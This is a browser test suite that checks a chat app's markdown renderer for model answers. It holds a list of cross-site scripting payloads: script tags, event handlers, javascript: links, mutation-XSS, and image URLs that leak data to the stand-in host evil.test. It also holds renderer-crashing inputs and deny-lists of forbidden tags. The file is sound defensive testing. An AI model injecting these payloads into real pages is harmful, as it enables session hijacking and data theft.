"""Markdown from a model: inert, and the same whether it streamed or was saved (rows 1, 2, 3 and 17 of the attacks)."""

import random
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.lab import Lab, article, bundle, end_update, lab, watch, workbench
from tests.browser.tracing import traced

__all__ = ["bundle", "lab"]

ATTACKS = {
    "a script": "<script>window.hit = 1</script>",
    "an image with a handler": "<img src=x onerror='window.hit = 1'>",
    "a nested handler": "<svg><g/onload=window.hit=1></svg><math><mi//xlink:href='data:x,<script>window.hit=1</script>'>",
    "a script link": "[click](javascript:window.hit=1) [x](JaVaScRiPt:window.hit=1) [y](&#106;avascript:window.hit=1)",
    "a script link with controls": "[click](java\tscript:window.hit=1) <javascript:window.hit=1>",
    "a data link": "[click](data:text/html,<script>window.hit=1</script>)",
    "a frame": "<iframe src='https://evil.test/frame'></iframe><object data='https://evil.test/o'></object>",
    "a style": "<style>body{background:url(https://evil.test/css)}</style><p style='background:url(https://evil.test/s)'>x</p>",
    "a link element": "<link rel=stylesheet href=https://evil.test/sheet><base href=https://evil.test/><meta http-equiv=refresh content='0;url=https://evil.test/'>",  # noqa: E501 - one attack, one line
    "a form": "<form action=https://evil.test/form><input name=message autofocus><button formaction=https://evil.test/>go</button></form>",
    "htmx": "<b hx-get='/stolen' hx-trigger=load data-hx-on:load='window.hit=1' hx-on::load='window.hit=1'>x</b>",
    "clobbering": "<a id=message name=message></a><form id=run-form></form><img name=body>",
    "markdown images": "![a](https://evil.test/?d=secret) ![b](//evil.test/b) ![c](data:image/svg+xml,<svg/onload=window.hit=1>)",  # noqa: E501 - one attack, one line
    "a relative image": "![a](/accounts/logout/) ![b](../x) ![c](/attachments/../accounts/logout/)",
    "a linked image": "[![a](https://evil.test/i.png)](https://example.org/)",
    "a reference image": "![a][ref]\n\n[ref]: https://evil.test/ref.png",
    "a picture": "<picture><source srcset=https://evil.test/p><img src=https://evil.test/p></picture><video poster=https://evil.test/v>",
    "an srcset": "<img srcset='https://evil.test/1x 1x' src='/attachments/0123456789abcdef'>",
    "a math link": "$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.test/m}$ $\\htmlStyle{background:url(https://evil.test/h)}{x}$",
    "html in code": "```html\n<img src=https://evil.test/code onerror=window.hit=1>\n```",
    "a language with markup": '```"><img/src=https://evil.test/l>\nx\n```',
    "html in a table": "| a |\n|---|\n| <img src=https://evil.test/t onerror=window.hit=1> |",
    "a comment that hides": "<!--><img src=https://evil.test/c onerror=window.hit=1>-->",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://evil.test/m onerror=window.hit=1&gt;">',  # noqa: E501 - one attack, one line
    "a noscript": '<noscript><p title="</noscript><img src=https://evil.test/n onerror=window.hit=1>">',
}
"""What a hostile answer may hold; every one would set `window.hit`, take over an element or ask evil.test for something."""

ALLOWED_ATTRIBUTES = {
    "href", "title", "rel", "target", "src", "alt", "loading", "decoding", "class", "start", "scope", "type", "checked",
    "disabled", "aria-label", "aria-level", "aria-hidden", "tabindex", "data-language", "data-copy-code", "viewBox",
    "data-source", "hidden", "xmlns", "display", "mathvariant", "stretchy", "encoding", "fence", "separator",
    "mathcolor",
}  # fmt: skip

INSPECT = """() => {
  const prose = [...document.querySelectorAll('[data-markdown]')];
  return {
    hit: window.hit ?? null,
    tags: [...new Set(prose.flatMap((p) => [...p.querySelectorAll('*')].map((e) => e.localName)))],
    attributes: [...new Set(prose.flatMap((p) => [...p.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())))],
    links: prose.flatMap((p) => [...p.querySelectorAll('a')].map((a) => [a.protocol, a.rel, a.target])),
    ids: prose.flatMap((p) => [...p.querySelectorAll('[id], [name]')].length),
    images: prose.flatMap((p) => [...p.querySelectorAll('img')].map((i) => i.getAttribute('src'))),
  };
}"""
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "link",
    "meta",
    "base",
    "video",
    "picture",
    "textarea",
    "select",
    "template",
}


def stream_whole(lab: Lab, page: Page, text: str, *, piece: int = 3) -> None:
    """Show `text` as a live answer that arrives in pieces, up to its end."""
    lab.page = workbench(article(state="streaming"))
    lab.said.clear()
    page.goto(lab.url)
    ref = lab.followed()["ref"]
    pieces = [text[at : at + piece] for at in range(0, len(text), piece)]
    for start in range(0, len(pieces), 40):
        updates = [["c", 0, part] for part in pieces[start : start + 40]]
        lab.send({"e": ref, "n": start + len(updates), "u": updates})
    lab.send({"e": ref, "n": len(pieces) + 1, "u": [end_update()]})
    page.wait_for_selector('article[data-state="completed"]')


def show_saved(lab: Lab, page: Page, *texts: str) -> None:
    """Show saved answers and wait until all near the screen are rendered."""
    lab.page = workbench(
        *(article(text, number=number, exchange=f"e{number}") for number, text in enumerate(texts))
    )
    page.goto(lab.url)
    expect(page.locator("[data-source]").last).to_be_hidden()


def settle(page: Page) -> None:
    """Wait for the lazy parts: colours and formulas."""
    page.wait_for_load_state("networkidle")
    page.evaluate(
        "() => new Promise((done) => { requestIdleCallback(() => requestIdleCallback(done)); setTimeout(done, 20000); })"
    )


def assert_inert(page: Page, lab: Lab, requests: list[str], faults: list[str]) -> None:
    found = page.evaluate(INSPECT)
    assert found["hit"] is None
    assert not set(found["tags"]) & FORBIDDEN_TAGS
    assert not set(found["attributes"]) - ALLOWED_ATTRIBUTES
    assert not any(name.startswith(("on", "hx-", "data-hx", "style")) for name in found["attributes"])
    assert all(protocol in ("http:", "https:", "mailto:") for protocol, _rel, _target in found["links"])
    assert all(
        rel == "noopener noreferrer nofollow" and target == "_blank" for _p, rel, target in found["links"]
    )
    assert sum(found["ids"]) == 0
    assert all(source.startswith("/attachments/0123456789abcdef") for source in found["images"])
    assert [url for url in requests if not url.startswith(lab.url) and not url.startswith("data:,")] == []
    assert not [path for path in lab.gets if "accounts" in path or "stolen" in path or path.startswith("/x")]
    assert faults == []


def test_what_comes_near_is_rendered_before_it_is_seen(lab: Lab, page: Page) -> None:
    show_saved(lab, page, *["**words** and " * 40] * 30)
    expect(page.locator("[data-source]").nth(28)).to_be_hidden()
    expect(page.locator("[data-markdown]").nth(28)).not_to_be_in_viewport()
    expect(page.locator("[data-source]").first).not_to_be_hidden()


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_hostile_answer_is_inert_while_it_streams(lab: Lab, page: Page, text: str) -> None:
    requests, faults = watch(page)
    stream_whole(lab, page, f"Before.\n\n{text}\n\nAfter **all**.", piece=1)
    settle(page)
    assert_inert(page, lab, requests, faults)
    assert page.locator("[data-markdown] strong").inner_text() == "all"


def test_all_hostile_answers_are_inert_when_saved(lab: Lab, page: Page) -> None:
    requests, faults = watch(page)
    show_saved(lab, page, *ATTACKS.values())
    for number in range(len(ATTACKS)):
        page.locator(f"#message-{number}").scroll_into_view_if_needed()
    expect(page.locator("[data-source]:not([hidden])")).to_have_count(0)
    settle(page)
    assert_inert(page, lab, requests, faults)


def test_an_image_from_elsewhere_becomes_a_link_and_an_attachment_stays(lab: Lab, page: Page) -> None:
    show_saved(
        lab,
        page,
        "![chart](https://evil.test/c.png) and ![mine](/attachments/0123456789abcdef0123456789abcdef)",
    )
    link = page.get_by_role("link", name="Image: chart")
    assert link.get_attribute("href") == "https://evil.test/c.png"
    assert page.locator("[data-markdown] img").get_attribute("alt") == "mine"


EVERYTHING = """# Title

Some *emphasis*, **strong**, ~~gone~~, `code`, H<sub>2</sub>O, a <div>tag</div> and https://example.org.
A second line\\
with a break.

- one
- two
  - inner

    loose text
  ```python
  def f(x):
      return "x"
  ```
- [x] done
- [ ] to do

3. three
4. four

> quoted
> > deeper
lazy

| a | b |
|:--|--:|
| 1 | `x\\|y` |
| 2 | **b** |

```js
const a = 1; // comment

const b = "two";
```

    indented

    code

Inline $a^2 + b^2$ and

$$
\\frac{1}{2}
$$

Costs $5 and $6, not math.

Setext
------

***

Last [link](https://example.org/a?b=c "title").
"""

SHAPE = """(prose) => {
  prose ??= document.querySelector('[data-markdown]');
  const copy = prose.cloneNode(true);
  copy.querySelector('[data-source]').remove();
  return copy.innerHTML.replace(/<span class="code__part">([^]*?)<\\/span>/g, '$1');
}"""


def test_an_answer_looks_the_same_however_it_arrived(lab: Lab, page: Page) -> None:
    shapes = []
    for piece in (1, 2, 7, 64, 100_000):
        stream_whole(lab, page, EVERYTHING, piece=piece)
        settle(page)
        shapes.append(page.evaluate(SHAPE))
    show_saved(lab, page, EVERYTHING)
    settle(page)
    shapes.append(page.evaluate(SHAPE))
    assert all(shape == shapes[0] for shape in shapes[1:])


PIECES = [
    "A paragraph with **bold *and* more**.", "- item\n- item", "1. one\n2. two\n\n   inner", "10. ten\n11. eleven",
    "```py\ncode\n\nmore\n```", "~~~\n``` inside\n~~~", "  ```\n  indented fence\n  ```", "```\nunclosed", "> quote\nlazy",
    "> - list in quote\n> ```\n> code\n> ```", "| a | b |\n|---|---|\n| 1 | 2 |", "text\n| a |\n|---|\n| 1 |", "Title\n---",
    "# Heading", "***", "    indented\n\n    code", "$$\na+b\n$$", "$$ a $$ and $b$", "\\[\nx\n\\]", "$$\nnever closed",
    "- a\n\n  b\n\n- c", "* x\n+ y\n- z", "- [ ] task\n  - [x] sub",
    "<details>\n<summary>s</summary>\n\nx\n\n</details>",
    "![i](https://e.test/i.png)", "[a]: https://example.org\n\n[a]", "text\n- list after text", "text\n2. not a list",
    "\ttab",
    "語の文。\r\n二行目\r\n\r\n三", "a  \nb\\\nc", "-", "1.", "| a |", "`", "\\", "&lt;b&gt; &amp; <br>", "<!-- c -->", "",
]  # fmt: skip


def test_any_text_cut_anywhere_becomes_what_the_whole_becomes(lab: Lab, page: Page) -> None:
    chance = random.Random(17)
    texts = [
        "".join(
            chance.choice(PIECES) + chance.choice(["\n", "\n\n", "\n\n\n"])
            for _ in range(chance.randint(1, 9))
        )
        for _ in range(60)
    ]
    texts.append(EVERYTHING * 8)  # long enough to stand in parts
    lab.page = workbench(
        *(article(text, number=n, exchange=f"saved-{n}") for n, text in enumerate(texts)),
        *(article(state="streaming", number=100 + n, exchange=f"live-{n}") for n in range(len(texts))),
    )
    _requests, faults = watch(page)
    page.goto(lab.url)
    refs = {n: lab.followed(f"live-{n}")["ref"] for n in range(len(texts))}
    for n, text in enumerate(texts):
        at = number = 0
        while at < len(text):
            step, number = chance.randint(1, max(9, len(text) // 30)), number + 1
            lab.send({"e": refs[n], "n": number, "u": [["c", 0, text[at : at + step]]]})
            at += step
        lab.send({"e": refs[n], "n": number + 1, "u": [end_update()]})
    expect(page.locator('article[data-state="streaming"]')).to_have_count(0)
    page.emulate_media(media="print")
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    expect(page.locator("[data-source]:not([hidden])")).to_have_count(0)
    settle(page)
    plain = (
        "code[data-language=python]:not(:has(.k)), code[data-language=js]:not(:has(span:not(.code__part)))"
    )
    expect(page.locator(plain)).to_have_count(0)
    shapes = page.evaluate(f"() => [...document.querySelectorAll('[data-markdown]')].map({SHAPE})")
    for n, text in enumerate(texts):
        assert shapes[n] == shapes[len(texts) + n], repr(text)
    assert page.locator("[data-markdown]").nth(60).locator(".prose__part").count() > 1
    assert faults == []


def test_markdown_has_the_shape_its_author_meant(lab: Lab, page: Page) -> None:
    show_saved(lab, page, EVERYTHING)
    settle(page)
    prose = page.locator("[data-markdown]")
    assert prose.locator(":scope > h1").inner_text() == "Title"
    assert prose.locator("h1").get_attribute("aria-level") == "2"
    assert prose.locator("sub").inner_text() == "2"
    assert "<div>tag</div>" in prose.locator(":scope > p").nth(0).inner_text()
    assert prose.locator(":scope > ul > li").count() == 4
    assert prose.locator("li pre code").inner_text().startswith("def f(x):\n    return")
    assert prose.locator(":scope > ol").get_attribute("start") == "3"
    assert prose.locator("blockquote blockquote").inner_text().split() == ["deeper", "lazy"]
    assert prose.locator("table td[align=right]").first.inner_text() == "x|y"
    assert prose.locator(":scope > .code").count() == 2
    assert prose.locator(".code .code__corner").nth(1).inner_text().strip() == "js"
    assert prose.locator(".code code .k").first.inner_text() == "def"
    assert prose.locator("math").count() == 2
    assert "Costs $5 and $6, not math." in prose.inner_text()
    assert prose.locator("h2").inner_text() == "Setext"
    assert prose.locator(":scope > hr").count() == 1
    assert prose.locator("a", has_text="link").get_attribute("title") == "title"
    assert prose.locator("input[type=checkbox]:disabled").count() == 2


def test_long_lists_and_tables_stay_one_element(lab: Lab, page: Page) -> None:
    items = "\n".join(
        f"{number}. item {number} with some words to make it long enough" for number in range(1, 301)
    )
    rows = "\n".join(f"| {number} | value of row {number} which is long |" for number in range(200))
    stream_whole(lab, page, f"{items}\n\nBetween\n\n| n | v |\n|--|--|\n{rows}\n", piece=50)
    prose = page.locator("[data-markdown]")
    assert prose.locator(":scope > ol").count() == 1
    assert prose.locator("ol > li").count() == 300
    assert prose.locator("table").count() == 1
    assert prose.locator("tbody tr").count() == 200


PATHOLOGICAL = {
    "deep quotes": ">" * 20_000 + " x",
    "deep quotes with spaces": "> " * 20_000 + " x",
    "a line of 1 MB": "lorem ipsum " * 90_000,
    "a word of 1 MB": "x" * 1_000_000,
    "open brackets": "[" * 50_000,
    "open brackets in lines": ("[" * 60 + "\n") * 800,
    "links that never end": "[a](" * 20_000,
    "images that never end": "![a](<b" * 10_000,
    "stars": "*a **b " * 20_000,
    "underscores": "_a __b " * 20_000,
    "backticks": " ".join("`" * n for n in range(1, 300)),
    "tildes": "~~a " * 30_000,
    "a deep list": "".join("  " * depth + "- x\n" for depth in range(800)),
    "a list in one line": "- " * 20_000 + "x",
    "a numbered list in one line": "1. " * 20_000 + "x",
    "a huge table": "| a | b | c | d |\n|---|---|---|---|\n" + "| one | two | three | four |\n" * 20_000,
    "a wide table": "|" + " a |" * 3_000 + "\n|" + "---|" * 3_000 + "\n" + ("|" + " b |" * 3_000 + "\n") * 20,
    "entities": "&" * 100_000,
    "angle brackets": "<" * 100_000,
    "open tags": "<a " * 50_000,
    "comments": "<!--" * 30_000,
    "dollars": "$a " * 50_000,
    "display math that never ends": "$$\n" + "x\n" * 30_000,
    "reference definitions": "".join(f"[r{n}]: https://example.org/{n}\n" for n in range(5_000)),
    "reference labels": "[" + "a" * 100_000 + "]: x",
    "setext underlines": "a\n" + "=" * 100_000,
    "rules": "* " * 50_000 + "x",
    "blank lines": "\n" * 300_000 + "x",
    "trailing spaces": "a" + " " * 200_000 + "b",
    "emails": "a@" * 40_000,
    "addresses": "http://" * 20_000,
    "escapes": "\\*" * 50_000,
    "null characters": "\x00" * 10_000 + "\ufffd",
    "nested emphasis": "*" * 5_000 + "a" + "*" * 5_000,
    "formula bomb": "$$\n"
    + "\\def\\a{xx}"
    + "".join(f"\\def\\{c}{{\\{p}\\{p}}}" for p, c in zip("abcdefghi", "bcdefghij", strict=True))
    + "\\j\n$$",
    "deep formula": "$$\n" + "{" * 3_000 + "\n$$",
    "a long fence": "```json\n" + '{"a": [1, 2, "x"]},\n' * 40_000 + "```",
}


@pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_text_that_breaks_renderers_keeps_the_page_responsive(
    lab: Lab,
    page: Page,
    chromium: Browser,
    tmp_path: Path,
    text: str,
    record_property: Callable[[str, object], None],
) -> None:
    _requests, faults = watch(page)
    lab.page = workbench(article(state="streaming"))
    page.goto(lab.url)
    ref = lab.followed()["ref"]
    pieces = [text[at : at + 20_000] for at in range(0, len(text), 20_000)]

    def shown_to_its_end() -> None:
        for number, piece in enumerate(pieces, start=1):
            lab.send({"e": ref, "n": number, "u": [["c", 0, piece]]})
        lab.send({"e": ref, "n": len(pieces) + 1, "u": [end_update()]})
        page.wait_for_selector('article[data-state="completed"]')
        settle(page)

    tasks, _frames = traced(chromium, page, tmp_path / "trace.json", shown_to_its_end)
    assert faults == []
    record_property("longest_task_ms", max(tasks))
    assert max(tasks) < 1_000, sorted(tasks)[-5:]
    assert sum(tasks) < 15_000


@pytest.mark.parametrize(
    "name", ["a line of 1 MB", "deep quotes", "a huge table", "a deep list", "a long fence"]
)
def test_saved_text_that_breaks_renderers_is_shown(lab: Lab, page: Page, name: str) -> None:
    _requests, faults = watch(page)
    lab.page = workbench(article(PATHOLOGICAL[name]))
    page.goto(lab.url)
    page.locator("[data-messages]").focus()
    page.keyboard.press("Home")
    expect(page.locator("[data-source]")).to_be_hidden(timeout=20_000)
    page.get_by_role("textbox", name="Message").fill("still alive")
    assert faults == []


def test_without_the_renderer_text_is_shown_as_it_is(lab: Lab, page: Page) -> None:
    page.route("**/chunks/engine-*", lambda route: route.abort())
    stream_whole(lab, page, "Some **text**\n\n```py\nx = 1\n```\n\n<img src=x onerror='window.hit = 1'>")
    prose = page.locator("[data-markdown]")
    assert prose.locator(".prose__plain").all_inner_texts() == [
        "Some **text**",
        "<img src=x onerror='window.hit = 1'>",
    ]
    assert prose.locator("pre code").inner_text().strip() == "x = 1"
    assert page.evaluate("window.hit ?? null") is None


def test_an_empty_page_does_not_fetch_what_renders_answers(lab: Lab, page: Page) -> None:
    requests, _faults = watch(page)
    page.goto(lab.url)
    page.wait_for_load_state("networkidle")
    assert not [url for url in requests if re.search("/chunks/(engine|highlight|katex)-", url)]
    page.get_by_role("textbox", name="Message").press_sequentially("h")
    page.wait_for_event("requestfinished", lambda request: "/chunks/engine-" in request.url)
